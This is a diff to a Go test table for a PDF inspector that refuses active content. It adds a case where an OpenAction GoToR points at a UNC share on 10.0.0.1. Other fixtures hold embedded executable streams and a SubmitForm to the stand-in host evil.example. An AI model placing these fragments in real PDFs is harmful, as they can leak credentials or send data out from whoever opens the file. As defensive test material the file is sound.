@@ -53,6 +53,7 @@ func TestInspectRefusesActiveContent(t *testing.T) {
 			"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"}},
 		{"embedded file stream alone", "", []string{"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"}},
 		{"go to embedded", "/OpenAction 4 0 R", []string{"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"}},
+		{"go to remote share", "/OpenAction 4 0 R", []string{"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\share\\\\x.pdf) /D [0 /Fit] >>"}},
 		{"rich media", "", []string{"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}},
 		{"submit form", "/OpenAction 4 0 R", []string{"<< /S /SubmitForm /F (https://evil.example/) >>"}},
 		{"import data", "/OpenAction 4 0 R", []string{"<< /S /ImportData /F (data.fdf) >>"}},
